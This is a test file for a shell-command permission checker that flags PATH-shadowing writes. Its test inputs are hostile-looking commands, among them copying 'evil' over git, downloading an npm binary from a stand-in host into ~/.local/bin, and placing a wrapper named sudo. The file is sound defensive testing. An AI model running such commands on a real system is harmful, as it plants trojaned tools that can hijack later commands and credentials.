import { describe, expect, it } from "vitest";
import { verdict } from "../__fixtures__/decide.js";

describe("programs put ahead of the real ones on PATH", () => {
  it("asks for every write that places a well-known program's name in a PATH directory", () => {
    expect(verdict("cp evil /usr/local/bin/git")).toBe("ask host.path-shadowing");
    expect(verdict("install -m 755 ./node-shim ~/.local/bin/node")).toBe("ask host.path-shadowing");
    expect(verdict("cp -t ~/.local/bin /tmp/gh")).toBe("ask host.path-shadowing");
    expect(verdict("ln -sf /tmp/x ~/bin/python3")).toBe("ask host.path-shadowing");
    expect(verdict("curl -o ~/.local/bin/npm https://x.example/npm")).toBe("ask host.path-shadowing");
    expect(verdict("echo 'exec /usr/bin/git \"$@\"' > ~/.cargo/bin/git")).toBe("ask host.path-shadowing");
    expect(verdict("dd if=./x of=/usr/local/bin/kubectl")).toBe("ask host.path-shadowing");
    expect(verdict("tee /opt/homebrew/bin/gh < ./x")).toBe("ask host.path-shadowing");
  });

  it("leaves new names, links to the installed program of the same family and package managers alone", () => {
    expect(verdict("install -m 755 build/mytool /usr/local/bin/mytool")).toBe("allow");
    expect(verdict("cp target/release/mytool ~/.local/bin/")).toBe("allow");
    expect(verdict("ln -s $(pwd)/bin/dev ~/.local/bin/dev")).toBe("allow");
    expect(verdict("sudo ln -sf /usr/bin/python3 /usr/local/bin/python")).toBe("allow");
    expect(verdict("ln -s ~/.local/share/pnpm/pnpm ~/.local/bin/pnpm")).toBe("allow");
    expect(verdict("ln -sf /usr/bin/bash ~/.local/bin/python")).toBe("ask host.path-shadowing");
    expect(verdict("npm i -g typescript")).toBe("allow");
    expect(verdict("sudo install -o root -g root -m 0755 kubectl /usr/local/bin/kubectl")).toBe("allow");
    expect(verdict("sudo mv ./terraform /usr/local/bin/")).toBe("allow");
    expect(verdict("cp ./git-wrapper bin/git")).toBe("allow");
  });

  it("leaves system directories and privileged programs to their own rules", () => {
    expect(verdict("cp ./evil /usr/bin/git")).toBe("ask sysfile.modify");
    expect(verdict("cp ./wrapper ~/.local/bin/sudo")).toBe("deny sysfile.overwrite");
  });
});
